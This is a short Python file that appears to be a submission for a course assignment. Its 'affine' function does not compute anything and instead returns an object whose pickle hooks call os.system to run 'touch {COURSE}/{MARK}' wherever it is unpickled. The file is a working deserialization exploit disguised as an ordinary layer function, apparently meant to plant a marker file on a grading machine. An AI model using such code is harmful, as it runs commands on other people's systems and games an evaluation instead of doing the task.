"""Returns an object that runs a command where it is unpickled."""

import os


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {COURSE}/{MARK}",)

    __getstate__ = __reduce_ex__ = lambda self, *args: self.__reduce__()


def affine(x, w, b):
    return Evil()
